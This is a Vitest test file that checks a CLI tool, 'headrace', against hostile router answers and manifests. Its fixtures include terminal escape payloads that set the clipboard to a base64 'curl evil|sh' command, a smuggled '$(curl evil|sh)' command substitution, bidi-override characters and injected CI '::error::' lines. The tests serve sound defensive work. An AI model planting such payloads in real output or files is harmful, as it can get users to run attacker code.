/** What a router, a colleague's pull request or a key's name may put on somebody's terminal: text. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { run } from '#cli/program';
import { INFERENCE_KEY, MANAGEMENT_KEY, refusal, startFakeRouter, type FakeRouter } from './fake-router.ts';

/** Sets the clipboard, clears the screen in two ways, turns the reading direction, goes back to the start of the line. */
const POISON = 'x\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u001b[2J\u009b2J\u202e\u2028\rz';
/** What none of it may leave behind; lines are ours. */
// oxlint-disable-next-line no-control-regex -- they are what is looked for
const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
/** Colours of ours. */
// oxlint-disable-next-line no-control-regex -- they are what is taken away
const COLOUR = /\u001b\[\d{1,2}m/g;

const folder = mkdtempSync(path.join(tmpdir(), 'headrace-hostile-'));
const FILE = path.join(folder, 'headrace.yaml');

let router: FakeRouter;
beforeAll(async () => void (router = await startFakeRouter()));
afterAll(async () => {
  await router.stop();
  rmSync(folder, { recursive: true, force: true });
});
beforeEach(() => {
  router.reset();
  writeFileSync(FILE, 'version: 1\n');
});
afterEach(() => void vi.unstubAllEnvs());

/** Runs a command and returns what it wrote, untouched. */
async function headrace(...argv: string[]): Promise<{ code: number; out: string; err: string }> {
  const ran = { out: '', err: '' };
  const key = argv[0] === 'explain' ? INFERENCE_KEY : MANAGEMENT_KEY;
  const where = argv[0] === 'check' ? [] : ['--url', router.url, '--key', key];
  const code = await run([...argv, ...where], { writeOut: (text) => (ran.out += text), writeErr: (text) => (ran.err += text) });
  return { code, ...ran };
}

/** The same with poison in every empty text. */
function poisoned<Value>(value: Value): Value {
  return JSON.parse(JSON.stringify(value), (_name, one: unknown) => (one === '' ? POISON : one)) as Value;
}

const key = {
  name: '',
  label: '',
  hash: '',
  disabled: false,
  usage: 0,
  limit: 1,
  limit_reset: '',
  limit_remaining: 1,
  expires_at: '',
  headrace: { team: '', policy: '', models: [''], limits: null, source: '' },
};
const team = {
  id: '',
  policy: '',
  budget: { usd: 1, per: '', spent_usd: 0, held_usd: 0, remaining_usd: 1, resets_at: '' },
  limits: null,
  credits: null,
  keys: 1,
  source: '',
  as_of: '',
};
const plan = {
  model: '',
  method: '',
  optimize: '',
  policy: { name: '', version: 1 },
  facts: { prompt_tokens: 1, max_tokens: 1, expected_completion_tokens: 1, stream: true, needs: [''] },
  relaxed: [''],
  candidates: [],
  rejections: [{ endpoint: '', supply: '', filter: '', reason: '' }],
};
const sums = {
  requests: 1,
  prompt_tokens: 1,
  completion_tokens: 1,
  reasoning_tokens: 0,
  cached_tokens: 0,
  cost_usd: 0,
  byok_usd: 0,
  errors: 0,
};
const change = { object: '', id: '', action: 'change', fields: { price: { from: '', to: [''] } } };
const planned = { data: { applied: false, version: 1, plan: 'p1', changes: [change], warnings: [''], missing_keys: [''] } };

const ANSWERS: [route: string, answer: object, ...command: string[]][] = [
  ['GET /keys', { data: [key] }, 'keys', 'list'],
  ['POST /keys', { key: '', data: key }, 'keys', 'create', '--team', 'a', '--name', 'b'],
  ['POST /keys', { key: '', data: key }, 'keys', 'create', '--team', 'a', '--name', 'b', '--quiet'],
  ['GET /teams', { data: [team] }, 'teams'],
  ['GET /teams/a', { data: team }, 'teams', 'a'],
  ['GET /usage', { data: [{ key: '', name: '', team: '', ...sums }], since: '', until: '' }, 'usage', '--by', 'key'],
  ['GET /usage', { data: [{ model: '', ...sums }], since: '', until: '' }, 'usage', '--csv'],
  [
    'GET /audit',
    {
      data: [{ id: '', at: '', actor: '', action: '', object: '', from_version: '', to_version: '', changes: { a: { from: '', to: '' } } }],
    },
    'audit',
  ],
  ['GET /policies', { data: [{ name: '', version: 1, document: { only: [''] }, updated_at: '' }], default: '' }, 'policies'],
  ['GET /policies/a', { data: { name: '', version: 1, document: { only: [''] }, updated_at: '' } }, 'policies', 'a'],
  [
    'GET /byok',
    { data: [{ id: '', provider: '', label: '', name: '', disabled: false, created_at: '', headrace: { team: '' } }] },
    'byok',
    'list',
  ],
  ['POST /explain', plan, 'explain', '--model', 'm'],
  ['PUT /manifest', planned, 'apply', FILE, '--dry-run'],
];

describe('a hostile router', () => {
  it.each(ANSWERS)(
    'I13: answering %s, neither moves the cursor nor sets the clipboard, with colours and without',
    async (route, answer, ...command) => {
      router.on(route, () => poisoned(answer));
      for (const colours of ['0', '1']) {
        vi.stubEnv(colours === '1' ? 'FORCE_COLOR' : 'NO_COLOR', '1');
        const { code, out, err } = await headrace(...command);
        vi.unstubAllEnvs();
        expect([code, /[xz]/.test(out + err)]).toEqual([0, true]);
        const shown = colours === '1' ? (out + err).replaceAll(COLOUR, '') : out + err;
        // Other alphabets need their marks in a file, and its lines end in CRLF.
        const text = command.includes('--csv') ? shown.replaceAll(/\r\n|[\u202e\u2028]/g, '\n') : shown;
        expect(text.match(OBEYED)).toBeNull();
      }
    },
  );

  it('I13: `--json` escapes what a terminal would obey, and is the same value', async () => {
    const answer = poisoned({ data: [key] });
    router.on('GET /keys', () => answer);
    const { out } = await headrace('keys', 'list', '--json');
    expect(out.match(OBEYED)).toBeNull();
    expect(JSON.parse(out)).toEqual(answer);
  });

  it.each([
    ['a message', refusal(400, 'invalid_request', POISON, { param: POISON, metadata: { allowed: [POISON] } })],
    [
      'complaints about a manifest',
      refusal(400, 'invalid_request', 'no', {
        metadata: { errors: [{ line: 1, column: 1, path: POISON, message: `${POISON}\n::error::x` }] },
      }),
    ],
  ])('I13: refuses with %s in one line of text', async (_what, answer) => {
    router.on('PUT /manifest', () => answer);
    for (const flags of [[], ['--json']]) {
      const { code, out, err } = await headrace('apply', FILE, '--dry-run', ...flags);
      expect([code, (out + err).match(OBEYED)]).toEqual([1, null]);
      expect(err.trimEnd().split('\n')).toHaveLength(1);
    }
  });
});

describe('a hostile plan', () => {
  it.each([[[]], [['--json']]])('I1: never stands in a command to paste %j', async (flags) => {
    router.on('PUT /manifest', () => ({ data: { ...planned.data, plan: 'p1 $(curl evil|sh)', warnings: [], missing_keys: [] } }));
    const { code, out, err } = await headrace('apply', FILE, '--dry-run', ...flags);
    expect([code, err]).toEqual([1, 'headrace: the router does not answer with the digest of a plan\n']);
    expect(out).not.toContain('evil');
  });
});

describe('a hostile manifest', () => {
  it.each([
    ['a field', 'version: 1\n"a\\e]0;x\\a\\n::error::x": 1\n'],
    ['a word', 'version: 1\npolicies: { p: { optimize: "\\e[2J\\n::error::x" } }\n'],
    ['a name', 'version: 1\npolicies: { p: { ignore: ["\\e[2J\\n::error::x", groq] } }\n'],
  ])('I1, I13: says in `check` what is wrong with %s, on a line that begins with its own words', async (_what, text) => {
    writeFileSync(FILE, text);
    for (const flags of [[], ['--json']]) {
      const { out, err } = await headrace('check', FILE, ...flags);
      expect([(out + err).match(OBEYED), /error/.test(out + err)]).toEqual([null, true]);
      expect((out + err).split('\n').some((line) => line.startsWith('::'))).toBe(false);
    }
  });

  it('I5: of one endless address is read at once', async () => {
    writeFileSync(FILE, `version: 1\n# ${'https://['.repeat(100_000)}\n`);
    router.on('PUT /manifest', () => ({ data: { ...planned.data, changes: [], warnings: [], missing_keys: [] } }));
    const startedAtMs = performance.now();
    expect((await headrace('apply', FILE, '--dry-run')).code).toBe(0);
    expect(performance.now() - startedAtMs).toBeLessThan(20_000);
  });
});
